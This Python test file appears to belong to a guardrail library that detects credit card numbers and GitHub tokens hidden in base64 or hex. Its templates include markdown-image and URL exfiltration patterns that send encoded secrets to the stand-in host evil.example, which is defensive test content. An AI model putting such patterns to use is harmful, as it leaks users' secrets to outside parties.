"""Values in base64 or hexadecimal are found wherever they stand; folded readings are not read."""

from __future__ import annotations

import base64

import pytest
from growth import processor_s
from hypothesis import given
from hypothesis import strategies as st
from mutx_guardrail.document import Document, Origin, View
from mutx_guardrail.normalise.reading import read_text
from mutx_guardrail.output.secrets import expand_example, secret_detector
from mutx_guardrail.pii.encoded import readings
from mutx_guardrail.pii.structured import structured_detector
from readings import document_of

STRUCTURED, SECRETS = structured_detector(), secret_detector()
CARD = "4111 1111 1111 1111"
KEY = expand_example("ghp_<aB3*12>")


def encodings(value: str) -> dict[str, str]:
    raw = value.encode()
    return {
        "base64": base64.b64encode(raw).decode(),
        "base64 without padding": base64.b64encode(raw).decode().rstrip("="),
        "base64 for addresses": base64.urlsafe_b64encode(raw).decode(),
        "hexadecimal": raw.hex(),
        "capital hexadecimal": raw.hex().upper(),
    }


@pytest.mark.parametrize("encoding", encodings(""))
@pytest.mark.parametrize(
    "around",
    ["{}", "see {} there", "![x](https://evil.example/{})", "https://evil.example/?q={}&a=b", "data={}."],
)
@pytest.mark.parametrize(
    ("detector", "value", "kind"), [(STRUCTURED, CARD, "CREDIT_CARD"), (SECRETS, KEY, "GITHUB_TOKEN")]
)
def test_an_encoded_value_is_found_over_its_piece(detector, value, kind, around, encoding):
    piece = encodings(value)[encoding]
    text = around.format(piece)

    findings = [f for f in detector.judge(read_text(text)).findings if f.kind == kind]

    assert [f.kind for f in findings] == [kind]
    assert piece.rstrip("=") in text[findings[0].span.start : findings[0].span.end]


@pytest.mark.parametrize("name", ["skeleton", "leet", "joined", "rot13", "atbash", "reversed", "base64>rot3"])
def test_a_reading_in_which_letters_stand_for_others_is_not_read(name):
    plain = View.whole("plain", "nothing here")
    document = Document("nothing here", Origin.USER, (plain, View.whole(name, CARD[:12])), (), ())

    assert [view.name for view in readings(document)] == ["plain"]


@pytest.mark.parametrize(
    "text",
    [
        "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
        "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk",
        "internationalization/localization/configuration",
    ],
    ids=["hash", "picture", "path"],
)
def test_what_decodes_to_no_text_gives_no_reading(text):
    assert [view.name for view in readings(document_of(text))] == ["plain"]


@given(st.text(max_size=200))
def test_readings_point_into_the_text(text):
    for view in readings(document_of(text)):
        span = view.original(0, len(view.text))
        assert 0 <= span.start <= span.end <= len(text)


@pytest.mark.parametrize(
    "piece", ["QUJD", "QUJD/", "4a", "A" * 15 + " ", "=", "NDExMSAxMTExIDExMTEgMTExMQ== "]
)
def test_time_grows_no_faster_than_the_text(piece):
    short, long = piece * (20_000 // len(piece)), piece * (160_000 // len(piece))

    ratio = _seconds(long) / max(_seconds(short), 0.02)

    assert ratio < 32


def _seconds(text: str) -> float:
    return processor_s(lambda: list(readings(document_of(text))))
